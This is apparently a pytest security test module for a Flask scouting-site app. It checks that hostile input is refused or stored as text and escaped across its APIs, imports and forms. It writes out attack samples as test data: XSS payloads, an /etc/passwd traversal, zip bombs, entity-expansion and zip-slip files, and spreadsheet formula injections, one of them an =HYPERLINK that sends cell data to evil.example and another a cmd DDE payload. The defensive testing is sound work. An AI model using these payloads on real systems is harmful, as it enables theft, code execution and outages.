"""Hostile and careless input on every surface: the JSON API's writes, packs, imports, photos, the planner's site form
and the suggestion form, and the query parameters of the read APIs.  Both databases.

Each refused case asserts the status, a message naming the field and why, that nothing was written (rows in every
table that takes user input, files under the instance folder) and that the server still answers.  Input that is
accepted but dangerous where shown (HTML/JS, bidi and zero-width characters, emoji, spreadsheet formulas) is stored
as text and must come out escaped on every page that shows it and neutralised in the CSV export.

The small files are in tests/hostile/; big ones (zip bombs, a million entity references) are made here at test time.
"""
from __future__ import annotations

import csv
import io
import itertools
import json
import re
import zipfile
from pathlib import Path
from urllib.parse import quote

import pytest
from defusedxml import ElementTree
from sqlalchemy import func, select

from scouting import accounts
from scouting.geodata import load_geodata
from scouting.models import Pack, PackItem, Photo, Site, SiteRevision, SiteTag, Suggestion

from .conftest import STAFF_PASSWORD, drop_database, make_app, new_database_url
from .helpers import bearer, csrf, signed_in
from .test_photos import geotagged_jpeg, png_bomb

CORPUS = Path(__file__).parent / "hostile"
XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
XSS_ESCAPED = "&lt;script&gt;alert("
TABLES = (Site, SiteTag, SiteRevision, Pack, PackItem, Photo, Suggestion)


# --------------------------------------------------------------------------- one database per backend for the module

@pytest.fixture(scope="module")
def hostile(backend, tmp_path_factory):
    """A seeded app with a planner `ping` (token in .token); refused input never changes it, so tests share it."""
    tmp = tmp_path_factory.mktemp(f"hostile-{backend}")
    url = new_database_url(backend, tmp)
    app = make_app(url, tmp / "instance", seed=False)
    with app.extensions["scouting"]["sessionmaker"]() as session:
        load_geodata(session)
        accounts.create_user(session, "ping", STAFF_PASSWORD, "planner")
        app.token = accounts.create_token(session, "ping")
    yield app
    app.extensions["scouting"]["engine"].dispose()
    drop_database(url)


_ADDRESSES = itertools.count(1)


def new_client(app):
    """A test client from an address of its own: the rate limits (per address) are tested elsewhere, and a
    hostile case must be refused for what it is, not because the cases before it used up a limit."""
    client = app.test_client()
    n = next(_ADDRESSES)
    client.environ_base["REMOTE_ADDR"] = f"198.18.{n // 250}.{n % 250 + 1}"
    return client


@pytest.fixture
def client(hostile):
    client = new_client(hostile)
    client.auth = bearer(hostile.token)
    return client


def corpus(name: str) -> bytes:
    return (CORPUS / name).read_bytes()


def snapshot(app) -> tuple:
    """Rows of every table user input reaches, and every file under the instance folder (photos, uploads)."""
    with app.extensions["scouting"]["sessionmaker"]() as session:
        rows = tuple(session.scalar(select(func.count()).select_from(table)) for table in TABLES)
    files = sorted(str(p) for p in Path(app.instance_path).rglob("*") if p.is_file())
    return rows, files


def assert_healthy(client) -> None:
    assert client.get("/healthz").get_json()["status"] == "ok"
    normal = client.get("/api/sites?genre=nature&limit=5")
    assert normal.status_code == 200 and normal.get_json()["features"]


def assert_problem(resp, status: int, field: str | None, *words: str) -> dict:
    """A problem+json answer with the status, naming the field, and saying why (the words)."""
    assert resp.status_code == status, (resp.status_code, resp.get_data(as_text=True)[:500])
    assert resp.mimetype == "application/problem+json", resp.mimetype
    body = resp.get_json()
    assert body["status"] == status and body["detail"]
    if field is not None:
        assert body["invalid-params"][0]["name"] == field, body
        assert body["detail"].startswith(f"{field}: "), body["detail"]
    for word in words:
        assert word in body["detail"], (word, body["detail"])
    assert "Traceback" not in body["detail"] and "sqlalchemy" not in body["detail"].lower()
    return body


@pytest.fixture
def unchanged(hostile, client):
    """Asserts after the test that nothing was written and that the server still answers."""
    before = snapshot(hostile)
    yield
    assert snapshot(hostile) == before
    assert_healthy(client)


def first_site(client) -> tuple[int, str]:
    site = client.get("/api/sites?limit=1").get_json()["features"][0]
    return site["id"], client.get(f"/api/sites/{site['id']}").headers["ETag"]


# --------------------------------------------------------------------------- the JSON API's site writes

SITE_BODIES = [
    # corpus file, field named, words of the reason
    ("malformed.json", "body", "not valid JSON"),
    ("not-an-object.json", "body", "GeoJSON Feature"),
    ("bad-utf8.geojson", "body", "not valid JSON"),
    ("wrong-types.geojson", "name_en", "must be text"),
    ("wrong-type-accuracy.geojson", "coord_accuracy_m", "is not a number"),
    ("nan.geojson", "geometry", "finite"),
    ("infinity.geojson", "geometry", "finite"),
    ("overflow-1e400.geojson", "geometry", "finite"),
    ("huge-1e308.geojson", "geometry", "out of range"),
    ("huge-integer.geojson", "elevation_m", "out of range"),
    ("swapped.geojson", "geometry", "look swapped"),
    ("empty-geometry.geojson", "geometry", "Point"),
    ("self-intersecting.geojson", "geometry", "Point"),
    ("unknown-vocabulary.geojson", "genres", "horror"),
    ("long-name.geojson", "name_en", "10000 characters"),
    ("nul.geojson", "name_en", "U+0000"),
    ("lone-surrogate.geojson", "name_en", "surrogate"),
]


@pytest.mark.parametrize("method", ["POST", "PATCH"])
@pytest.mark.parametrize(("name", "field", "why"), SITE_BODIES, ids=[c[0] for c in SITE_BODIES])
def test_site_writes_refuse_the_corpus(client, unchanged, method, name, field, why):
    site_id, etag = first_site(client)
    url, headers = "/api/sites", dict(client.auth)
    if method == "PATCH":
        url, headers = f"/api/sites/{site_id}", headers | {"If-Match": etag}
    resp = client.open(url, method=method, data=corpus(name), headers=headers, content_type="application/json")
    assert_problem(resp, 400, field, why)


def test_site_writes_refuse_nesting_size_type_and_versions(hostile, client, unchanged):
    site_id, etag = first_site(client)
    deep = b"[" * 100_000 + b"]" * 100_000
    assert_problem(client.post("/api/sites", data=deep, headers=client.auth, content_type="application/json"),
                   400, "body", "not valid JSON")
    oversize = b'{"type": "Feature", "properties": {"name_en": "' + b"x" * (26 << 20) + b'"}}'
    assert_problem(client.post("/api/sites", data=oversize, headers=client.auth, content_type="application/json"),
                   413, None)
    for content_type in ("text/plain", "application/x-www-form-urlencoded", "application/xml"):
        assert_problem(client.post("/api/sites", data=corpus("swapped.geojson"), headers=client.auth,
                                   content_type=content_type), 415, None, "application/json")
    patch = {"type": "Feature", "properties": {"name_en": "changed"}}
    url = f"/api/sites/{site_id}"
    assert_problem(client.patch(url, json=patch, headers=client.auth), 428, None, "If-Match")
    assert_problem(client.patch(url, json=patch, headers=client.auth | {"If-Match": "<script>"}), 400, "If-Match")
    stale = assert_problem(client.patch(url, json=patch, headers=client.auth | {"If-Match": '"0"'}), 412, None, "version")
    assert stale["current"]["id"] == site_id
    huge = '"' + "9" * 40 + '"'
    assert_problem(client.patch(url, json=patch, headers=client.auth | {"If-Match": huge}), 412, None)
    # Ids beyond the database's integers are no site (404), not an overflow.
    for path in ("/api/sites/" + "9" * 30, "/api/sites/" + "9" * 30 + "/details", "/api/photos/" + "9" * 30):
        assert_problem(client.get(path), 404, None)
    # (Werkzeug finds the GET rule's method first, so a PATCH there is a 405: still no SQL, no 500.)
    beyond = client.patch("/api/sites/" + "9" * 30, json=patch, headers=client.auth | {"If-Match": etag})
    assert_problem(beyond, beyond.status_code if beyond.status_code in (404, 405) else 404, None)
    restore = client.post(f"/api/sites/{site_id}/restore", data='{"revision": 1' + "0" * 400 + "}",
                          headers=client.auth | {"If-Match": etag}, content_type="application/json")
    assert_problem(restore, 400, "revision")
    assert_problem(client.get(f"/api/sites/{site_id}/details?date=9999-12-31"), 400, "date", "sun times")


# --------------------------------------------------------------------------- packs

PACK_BODIES = [
    (b'{"name": "cut', "body", "not valid JSON"),
    (b"[" * 100_000 + b"]" * 100_000, "body", "not valid JSON"),
    (b'["name"]', "body", "JSON object"),
    (b'{"name": "x", "site_ids": [1], "colour": "red"}', "colour", "unknown field"),
    (b'{"name": 5, "site_ids": [1]}', "name", "non-empty text"),
    (b'{"name": "a\\u0000b", "site_ids": [1]}', "name", "U+0000"),
    (b'{"name": "\\udc00", "site_ids": [1]}', "name", "surrogate"),
    (json.dumps({"name": "x" * 10_000, "site_ids": [1]}).encode(), "name", "10000 characters"),
    (b'{"name": "x", "site_ids": "1"}', "site_ids", "list"),
    (b'{"name": "x", "site_ids": [1' + b"0" * 30 + b"]}", "site_ids", "no site has id"),
    (b'{"name": "x", "site_ids": [1e400]}', "site_ids", "whole numbers"),
    (b'{"name": "x", "site_ids": [1], "notes": {"1": NaN}}', "notes", "must be text"),
    (b'{"name": "x", "site_ids": [1], "notes": {"1": "bell \\u0007"}}', "notes", "U+0007"),
    (b'{"name": "x", "site_ids": [1], "description": "\\u0000"}', "description", "U+0000"),
    (b'{"name": "x", "site_ids": [1], "shoot_date": "0001-01-01"}', "shoot_date", "sun times"),
    (b'{"name": "x", "site_ids": [1], "shoot_date": "2026-02-30"}', "shoot_date", "calendar"),
    (b'{"name": "x", "site_ids": [1], "expires_on": "2000-01-01"}', "expires_on", "past"),
]


@pytest.fixture
def pack(hostile, client):
    """A pack made before the test's snapshot, with its edit token and ETag."""
    site_id, _ = first_site(client)
    resp = client.post("/api/packs", json={"name": "Hostile pack", "site_ids": [site_id]})
    assert resp.status_code == 201
    return resp.get_json() | {"etag": resp.headers["ETag"]}


@pytest.mark.parametrize("method", ["POST", "PATCH"])
@pytest.mark.parametrize(("body", "field", "why"), PACK_BODIES, ids=[f"pack{i}" for i in range(len(PACK_BODIES))])
def test_pack_writes_refuse_hostile_bodies(client, pack, unchanged, method, body, field, why):
    if method == "POST":
        resp = client.post("/api/packs", data=body, content_type="application/json")
    else:
        resp = client.patch(f"/api/packs/{pack['id']}", data=body, content_type="application/json",
                            headers={"X-Edit-Token": pack["edit_token"], "If-Match": pack["etag"]})
    assert_problem(resp, 400, field, why)


def test_pack_content_type_size_and_links(client, pack, unchanged):
    assert_problem(client.post("/api/packs", data="name=x", content_type="application/x-www-form-urlencoded"),
                   415, None, "application/json")
    oversize = b'{"name": "' + b"x" * (26 << 20) + b'"}'
    assert_problem(client.post("/api/packs", data=oversize, content_type="application/json"), 413, None)
    for link in ("%00", "x" * 5000, quote("<script>"), "..%2F..%2Fetc%2Fpasswd"):
        assert client.get(f"/api/packs/{link}").status_code == 404, link
        assert client.get(f"/packs/{link}").status_code == 404, link
    edit = {"X-Edit-Token": "guess", "If-Match": pack["etag"]}
    assert client.patch(f"/api/packs/{pack['id']}", json={"name": "y"}, headers=edit).status_code == 403


# --------------------------------------------------------------------------- imports

def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(zipfile.ZipInfo(name), data)  # ZipInfo keeps a ../ name as given
    return buffer.getvalue()


@pytest.fixture(scope="module")
def big_hostile_files(tmp_path_factory) -> dict[str, bytes]:
    """Made at test time, never committed: a KMZ zip bomb, a million entity references, archives with ../ paths."""
    tmp = tmp_path_factory.mktemp("big-hostile")
    bomb = tmp / "bomb.kmz"
    zeros = bytes(1 << 20)
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zf, zf.open("doc.kml", "w", force_zip64=True) as member:
        for _ in range(150):
            member.write(zeros)
    million = ('<?xml version="1.0"?>\n<!DOCTYPE kml [<!ENTITY a "aaaaaaaaaa">]>\n'
               '<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>' + "&a;" * 1_000_000
               + "</name><Point><coordinates>120.05,27.8</coordinates></Point></Placemark></kml>").encode()
    kml = corpus("external-entity.kml").replace(b"&xxe;", b"fine").split(b"\n", 2)[2]
    return {
        "bomb.kmz": bomb.read_bytes(),
        "million-entities.kml": million,
        "slip.kmz": _zip({"doc.kml": kml, "../../escaped.kml": kml}),
        "slip-shapefile.zip": _zip({"../places.shp": b"\x00\x00\x27\x0a" + bytes(96), "places.dbf": b"x"}),
        "absolute.kmz": _zip({"/tmp/hostile-escaped.kml": kml}),
    }


IMPORT_REFUSED = [
    # file name, status, field, words (commit=true: nothing may be written)
    ("malformed.json", 400, "file", "not valid JSON"),
    ("bad-utf8.geojson", 400, "file", None),
    ("entity-expansion.kml", 400, "file", "DTD"),
    ("external-entity.kml", 400, "file", "DTD"),
    ("external-entity.gpx", 400, "file", "DTD"),
    ("bomb.kmz", 400, "file", "zip bomb"),
    ("million-entities.kml", 400, "file", "DTD"),
    ("slip.kmz", 400, "file", "unsafe path"),
    ("slip-shapefile.zip", 400, "file", "unsafe path"),
    ("absolute.kmz", 400, "file", "unsafe path"),
    ("lone-surrogate.geojson", 400, "file", "lone surrogate"),
]
# Files that parse but whose one row is wrong: the dry run reports the row, the commit is refused (422).
IMPORT_INVALID_ROWS = [
    ("nan.geojson", "geometry"),
    ("infinity.geojson", "geometry"),
    ("huge-1e308.geojson", "geometry"),
    ("huge-integer.geojson", "elevation_m"),
    ("swapped.geojson", "geometry"),
    ("empty-geometry.geojson", "geometry"),
    ("self-intersecting.geojson", "geometry"),
    ("wrong-type-accuracy.geojson", "coord_accuracy_m"),  # (a number for a name is taken as its text, as GIS files do)
    ("unknown-vocabulary.geojson", "genres"),
    ("long-name.geojson", "name_en"),
    ("nul.geojson", "name_en"),
]


def post_import(client, name: str, data: bytes, **params):
    query = "&".join(f"{k}={v}" for k, v in params.items())
    return client.post(f"/api/import?{query}", data={"file": (io.BytesIO(data), name)}, headers=client.auth,
                       content_type="multipart/form-data")


@pytest.mark.parametrize(("name", "status", "field", "why"), IMPORT_REFUSED, ids=[c[0] for c in IMPORT_REFUSED])
def test_import_refuses_hostile_files(client, unchanged, big_hostile_files, name, status, field, why):
    data = big_hostile_files[name] if name in big_hostile_files else corpus(name)
    for commit in ("false", "true"):
        resp = post_import(client, name, data, commit=commit)
        assert_problem(resp, status, field, *([why] if why else []))
        assert "root:" not in resp.get_data(as_text=True)
    assert not Path("/tmp/hostile-escaped.kml").exists()


@pytest.mark.parametrize(("name", "field"), IMPORT_INVALID_ROWS, ids=[c[0] for c in IMPORT_INVALID_ROWS])
def test_import_reports_invalid_rows_and_commits_nothing(client, unchanged, name, field):
    dry = post_import(client, name, corpus(name))
    assert dry.status_code == 200, dry.get_data(as_text=True)[:500]
    row = dry.get_json()["rows"][0]
    assert row["action"] == "invalid" and row["error"]["name"] == field, row
    assert row["error"]["reason"]
    committed = post_import(client, name, corpus(name), commit="true")
    assert committed.status_code == 422 and committed.get_json()["committed"] is False


def test_import_geopackage_and_shapefile_rows_are_checked(client, unchanged, tmp_path):
    """Binary GIS formats (read by GDAL) go through the same row checks: swapped, absurd and unknown values."""
    import geopandas
    from shapely.geometry import Point

    frame = geopandas.GeoDataFrame({
        "name_zh": ["颠倒", "太远", "未知"], "name_en": ["Swapped", "Far", "Unknown"],
        "genres": ["nature", "nature", "horror"],
    }, geometry=[Point(27.8, 120.05), Point(1e300, 27.8), Point(120.05, 27.8)], crs="EPSG:4326")
    gpkg = tmp_path / "hostile.gpkg"
    frame.to_file(gpkg, layer="places", driver="GPKG")
    frame.to_file(tmp_path / "places.shp")
    shapefile = _zip({p.name: p.read_bytes() for p in tmp_path.glob("places.*")})
    for name, data in (("hostile.gpkg", gpkg.read_bytes()), ("places.zip", shapefile)):
        dry = post_import(client, name, data)
        assert dry.status_code == 200, (name, dry.get_data(as_text=True)[:300])
        errors = [(r["action"], r["error"]["name"], r["error"]["reason"]) for r in dry.get_json()["rows"]]
        assert errors[0][:2] == ("invalid", "geometry") and "swapped" in errors[0][2], errors
        assert errors[1][:2] == ("invalid", "geometry") and "out of range" in errors[1][2], errors
        assert errors[2][:2] == ("invalid", "genres") and "horror" in errors[2][2], errors
        assert post_import(client, name, data, commit="true").status_code == 422


def test_import_size_type_and_parameters(hostile, client, unchanged):
    hostile.config["IMPORT_MAX_BYTES"] = 4096
    try:
        assert_problem(post_import(client, "long-name.geojson", corpus("long-name.geojson"), commit="true"), 413, None)
    finally:
        hostile.config.pop("IMPORT_MAX_BYTES")
    assert_problem(client.post("/api/import", data=corpus("swapped.geojson"), headers=client.auth,
                               content_type="application/geo+json"), 415, None, "multipart/form-data")
    nameless = (b'--B\r\nContent-Disposition: form-data\r\n\r\nv\r\n--B\r\nContent-Disposition: form-data; '
                b'name="file"; filename="a.geojson"\r\n\r\n' + corpus("swapped.geojson") + b"\r\n--B--\r\n")
    assert_problem(client.post("/api/import", data=nameless, headers=client.auth,  # found by Schemathesis: was a 500
                               content_type="multipart/form-data; boundary=B"), 400, None, "without a readable name")
    for params, field in (({"datum": "%00"}, "datum"), ({"genre_default": "horror"}, "genre_default"),
                          ({"commit": "<b>"}, "commit"), ({"x" * 300: "1"}, "x" * 300)):
        assert_problem(post_import(client, "swapped.geojson", corpus("swapped.geojson"), **params), 400, field)


# --------------------------------------------------------------------------- photos

def test_photo_uploads_refuse_hostile_files(hostile, client, unchanged):
    site_id, _ = first_site(client)
    url = f"/api/sites/{site_id}/photos"

    def upload(data: bytes, name="x.jpg", **form):
        return client.post(url, data={"file": (io.BytesIO(data), name), **form}, headers=client.auth,
                           content_type="multipart/form-data")

    jpeg = geotagged_jpeg((60, 40))
    assert_problem(upload(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "x.svg"), 415, "file")
    assert_problem(upload(corpus("entity-expansion.kml"), "x.jpg"), 415, "file")
    assert_problem(upload(png_bomb(), "bomb.png"), 413, "file", "decompression bomb")
    assert_problem(upload(jpeg, caption="a\x00b"), 400, "caption", "U+0000")
    assert_problem(upload(jpeg, caption="x" * 10_000), 400, "caption", "10000 characters")
    assert_problem(client.post(url, data=jpeg, headers=client.auth, content_type="image/jpeg"), 415, None)
    hostile.config["PHOTO_MAX_BYTES"] = 1000
    try:
        assert_problem(upload(jpeg), 413, "file", "1,000 bytes")
    finally:
        hostile.config.pop("PHOTO_MAX_BYTES")


# --------------------------------------------------------------------------- the planner's site form and suggestions

@pytest.fixture(scope="module")
def planner(hostile):
    """A browser session of the planner, signed in once (sign-in is rate-limited)."""
    return signed_in_planner(hostile)


def signed_in_planner(app):
    return signed_in(new_client(app), "ping")


GOOD_FORM = {"name_zh": "表单测试", "name_en": "Form test", "slug": "form-hostile", "genres": "nature",
             "lon": "120.05", "lat": "27.8", "datum": "wgs84", "coord_source": "hostile test",
             "coord_accuracy_m": "10", "position_method": "surveyed", "base": ""}
FORM_CASES = [
    # changed fields, the field whose error is shown, words of it (the page is in Chinese: no Accept-Language)
    ({"name_en": "NUL\x00inside"}, "name_en", "无法保存的不可见控制字符"),
    ({"description_en": "\x1b[31m red"}, "description_en", "无法保存的不可见控制字符"),
    ({"name_en": "名" * 10_000}, "name_en", "10000 个字符"),
    ({"lon": "nan"}, "lon", "普通数字"),
    ({"lat": "Infinity"}, "lat", "普通数字"),
    ({"lon": "1e308"}, "lon", "-180 至 180"),
    ({"lon": "27.8", "lat": "120.05"}, "lat", "填反"),
    ({"lon": "116.39", "lat": "39.91"}, "confirm_outside", "文成县境外"),
    ({"elevation_m": "1e400"}, "elevation_m", "普通数字"),
    ({"coord_accuracy_m": "ten"}, "coord_accuracy_m", "须填数字"),
]


@pytest.mark.parametrize(("change", "field", "why"), FORM_CASES, ids=[f"form{i}" for i in range(len(FORM_CASES))])
def test_site_form_shows_the_error_at_the_field(planner, unchanged, change, field, why):
    client = planner
    resp = client.post("/sites/new", data=GOOD_FORM | change | {"csrf_token": csrf(client, "/sites/new")})
    assert resp.status_code == 400
    page = resp.get_data(as_text=True)
    shown = re.search(rf'<strong class="scout-field-error" id="{field}-error">(.*?)</strong>', page, re.S).group(1)
    assert why in shown, shown


def test_site_form_refuses_unknown_terms_missing_csrf_and_bad_versions(planner, client, unchanged):
    token = csrf(planner, "/sites/new")
    assert planner.post("/sites/new", data=GOOD_FORM).status_code == 400  # no CSRF token
    unknown = planner.post("/sites/new", data=GOOD_FORM | {"genres": "horror", "csrf_token": token})
    shown = re.findall(r'<strong class="scout-field-error" id="genres-error">(.*?)</strong>',
                       unknown.get_data(as_text=True), re.S)
    assert unknown.status_code == 400 and shown == ["请从列表中选择“题材”。"], shown
    site_id, _ = first_site(client)
    edit_token = csrf(planner, f"/sites/{site_id}/edit")
    for version in ("abc", "", "-1"):
        resp = planner.post(f"/sites/{site_id}/edit", data=GOOD_FORM | {"version": version, "csrf_token": edit_token})
        assert resp.status_code == 400 and "此页面已过期：请刷新后重新编辑。" in resp.get_data(as_text=True), version
    resp = planner.post(f"/sites/{site_id}/delete", data={"version": "abc", "csrf_token": edit_token})
    assert resp.status_code == 400 and "请返回，重新加载页面后再试" in resp.get_data(as_text=True)
    assert planner.get("/sites/" + "9" * 30 + "/edit").status_code == 404


def test_planner_pages_refuse_hostile_uploads(planner, client, big_hostile_files, unchanged):
    """The same files through the signed-in pages: the error is shown on the page and no upload is kept."""
    site_id, _ = first_site(client)
    token = csrf(planner, f"/sites/{site_id}/edit")
    for data, name, status, why in ((b"<svg onload=alert(1)>", "x.jpg", 415, "JPEG"),
                                    (png_bomb(), "bomb.png", 413, "decompression bomb")):
        resp = planner.post(f"/sites/{site_id}/photos", data={"file": (io.BytesIO(data), name), "csrf_token": token},
                            content_type="multipart/form-data")
        assert resp.status_code == status
        shown = re.search(r'<strong class="scout-field-error" id="photo-error" role="alert">(.*?)</strong>',
                          resp.get_data(as_text=True), re.S).group(1)
        assert why in shown, shown
    token = csrf(planner, "/import")
    for name, data, why in (("external-entity.kml", corpus("external-entity.kml"), "DTD"),
                            ("bomb.kmz", big_hostile_files["bomb.kmz"], "zip bomb"),
                            ("slip.kmz", big_hostile_files["slip.kmz"], "unsafe path"),
                            ("nan.geojson", corpus("nan.geojson"), "finite")):
        resp = planner.post("/import", data={"file": (io.BytesIO(data), name), "datum": "wgs84", "csrf_token": token},
                            content_type="multipart/form-data")
        page = resp.get_data(as_text=True)
        assert resp.status_code in (200, 400), (name, resp.status_code)
        assert why in page, name
        assert "/commit" not in page, name  # no commit button: a refused or invalid file is not kept


SUGGEST = {"name": "Hidden pool", "message": "a pool below the falls", "lon": "120.05", "lat": "27.8"}


@pytest.mark.parametrize(("change", "field", "why"), [
    ({"message": "bell\x07"}, "message", "无法保存的不可见控制字符"),
    ({"name": "x" * 10_000}, "name", "最多只能 200 个"),
    ({"lon": "nan"}, "lon", "普通数字"),
    ({"lon": "1e999", "lat": "1"}, "lon", "普通数字"),
    ({"lat": "120.05"}, "lat", "-90 至 90"),
], ids=["control", "long", "nan", "overflow", "range"])
def test_suggestion_form_names_the_field(hostile, unchanged, change, field, why):
    client = new_client(hostile)
    resp = client.post("/suggest", data=SUGGEST | change | {"csrf_token": csrf(client, "/suggest")})
    assert resp.status_code == 400
    shown = re.search(rf'<strong class="scout-field-error" id="{field}-error">(.*?)</strong>',
                      resp.get_data(as_text=True), re.S).group(1)
    assert why in shown, shown


def test_suggestion_form_needs_csrf(hostile, unchanged):
    assert new_client(hostile).post("/suggest", data=SUGGEST).status_code == 400


# --------------------------------------------------------------------------- query parameters of the read APIs

READ_PATHS = ("/api/sites", "/api/sites/facets", "/ogc/collections/sites/items", "/api/sites/export")
QUERY_CASES = [
    ("offset=99999999999999999999999", "offset", "out of range 0..10000000"),
    ("limit=-1", "limit", "-1 is out of range 1..1000"),
    ("limit=1e3", "limit", "whole number"),
    ("bbox=nan,nan,nan,nan", "bbox", "finite"),
    ("bbox=inf,27,121,28", "bbox", "finite"),
    ("bbox=121,28,120,27", "bbox", "greater than"),
    ("bbox=27.7,119.9,27.9,120.2", "bbox", "longitude comes first"),
    ("bbox=1,2,3", "bbox", "4 comma-separated"),
    ("genre=horror", "genre", "unknown term"),
    ("terrain=%3Cscript%3E", "terrain", "unknown term"),
    ("facility=parking,moon", "facility", "unknown term"),
    ("base=nowhere", "base", "unknown base"),
    ("q=" + "x" * 7_000, "q", "7000 characters"),  # longer URLs get a 414 first (tests/test_long_state.py)
    ("q=a%00b", "q", "U+0000"),
    ("near=1e308,1e308&radius_km=1", "near", "out of range"),
    ("near=120,27.8&radius_km=nan", "radius_km", "finite"),
    ("elev_min=1e999", "elev_min", "finite"),
    ("colour=red", "colour", "unknown parameter"),
]


@pytest.mark.parametrize("path", READ_PATHS)
@pytest.mark.parametrize(("query", "field", "why"), QUERY_CASES, ids=[c[1] + str(i) for i, c in enumerate(QUERY_CASES)])
def test_read_parameters_are_checked(client, path, query, field, why):
    assert_problem(client.get(f"{path}?{query}"), 400, field, why)


def test_huge_limit_is_refused_by_the_api_and_clamped_by_ogc(client):
    assert_problem(client.get("/api/sites?limit=99999999999999999999"), 400, "limit", "is out of range 1..1000")
    ogc = client.get("/ogc/collections/sites/items?limit=99999999999999999999")  # OGC API asks servers to clamp
    assert ogc.status_code == 200 and ogc.get_json()["numberReturned"] <= 1000
    far = client.get("/api/sites?offset=10000000")
    assert far.status_code == 200 and far.get_json()["features"] == []
    assert_healthy(client)


# --------------------------------------------------------------------------- accepted, and harmless where shown

def test_html_in_every_text_field_is_stored_as_text_and_shown_escaped(hostile, client, planner):
    resp = client.post("/api/sites", data=corpus("html-everywhere.geojson"), headers=client.auth,
                       content_type="application/json")
    assert resp.status_code == 201, resp.get_json()
    site_id = resp.get_json()["id"]
    props = client.get(f"/api/sites/{site_id}", headers=client.auth).get_json()["properties"]
    sent = json.loads(corpus("html-everywhere.geojson"))["properties"]
    for field, value in sent.items():
        if isinstance(value, str) and "<" in value and field not in ("permit_notes", "contact_notes"):
            assert props[field] == value, field  # exactly as sent: text, not sanitised HTML
    pack = client.post("/api/packs", json={"name": XSS, "description": XSS, "site_ids": [site_id],
                                           "notes": {str(site_id): XSS}}).get_json()
    suggestion_client = new_client(hostile)
    assert suggestion_client.post("/suggest", data=SUGGEST | {"name": XSS, "message": XSS, "suggester_name": XSS,
                                                              "csrf_token": csrf(suggestion_client, "/suggest")}
                                  ).status_code == 200
    pages = {
        "map": "/", "pack": f"/packs/{pack['id']}", "print": f"/packs/{pack['id']}/print",
        "ogc items": "/ogc/collections/sites/items?f=html&limit=1000", "ogc item": f"/ogc/collections/sites/items/{site_id}?f=html",
        "edit form": f"/sites/{site_id}/edit", "history": f"/sites/{site_id}/history", "suggestions": "/suggestions",
    }
    for label, url in pages.items():
        page = planner.get(url)
        assert page.status_code == 200, label
        html = page.get_data(as_text=True)
        assert "<script>alert(" not in html and "<img src=x onerror" not in html, label
        if label != "map":  # the map lists sites from the JSON API and sets them with textContent
            assert XSS_ESCAPED in html, label
    details = planner.get(f"/api/sites/{site_id}/details").get_json()
    assert details["feature"]["properties"]["name_en"] == XSS
    # Exports: XML stays well-formed and carries the text; CSV holds it as text.
    for fmt in ("kml", "gpx"):
        body = client.get(f"/api/packs/{pack['id']}/export?format={fmt}").get_data()
        assert XSS in "".join(ElementTree.fromstring(body).itertext()), fmt
    rows = list(csv.DictReader(io.StringIO(client.get(f"/api/packs/{pack['id']}/export?format=csv")
                                           .get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0]["name_en"] == XSS
    assert_healthy(client)


def test_unicode_edge_cases_round_trip(hostile, client):
    resp = client.post("/api/sites", data=corpus("unicode-edge.geojson"), headers=client.auth,
                       content_type="application/json")
    assert resp.status_code == 201, resp.get_json()
    site_id = resp.get_json()["id"]
    sent = json.loads(corpus("unicode-edge.geojson"))["properties"]
    props = client.get(f"/api/sites/{site_id}").get_json()["properties"]
    assert (props["name_zh"], props["name_en"]) == (sent["name_zh"], sent["name_en"])
    found = client.get("/api/sites?q=" + quote("右到左")).get_json()["features"]
    assert [f["id"] for f in found] == [site_id]
    pack = client.post("/api/packs", json={"name": sent["name_en"], "site_ids": [site_id]}).get_json()
    page = client.get(f"/packs/{pack['id']}").get_data(as_text=True)
    assert sent["name_zh"] in page and sent["name_en"] in page
    kml = client.get(f"/api/packs/{pack['id']}/export?format=kml").get_data()
    assert sent["name_en"] in "".join(ElementTree.fromstring(kml).itertext())
    assert_healthy(client)


def test_csv_formulas_are_imported_as_text_and_neutralised_on_export(hostile, client):
    data = corpus("csv-formula.csv")
    dry = post_import(client, "formulas.csv", data)
    assert dry.status_code == 200 and dry.get_json()["totals"]["create"] == 2, dry.get_json()
    done = post_import(client, "formulas.csv", data, commit="true")
    assert done.status_code == 201, done.get_json()
    ids = [row["site_id"] for row in done.get_json()["rows"]]
    names = {client.get(f"/api/sites/{i}").get_json()["properties"]["name_en"] for i in ids}
    assert names == {'=HYPERLINK("http://evil.example/?"&A1,"click")', "-2+3"}  # stored exactly, as text
    pack = client.post("/api/packs", json={"name": "=cmd|' /C calc'!A0", "site_ids": ids}).get_json()
    exported = client.get(f"/api/packs/{pack['id']}/export?format=csv").get_data(as_text=True).lstrip("\ufeff")
    for row in csv.DictReader(io.StringIO(exported)):
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@")), (column, cell)
            if column in ("name_en", "description_en") and cell and cell[0] == "'":
                assert cell[1] in "=+-@", cell  # the quote that makes a spreadsheet show the formula as text
    assert "'=HYPERLINK" in exported and "'@cmd" in exported
    assert_healthy(client)
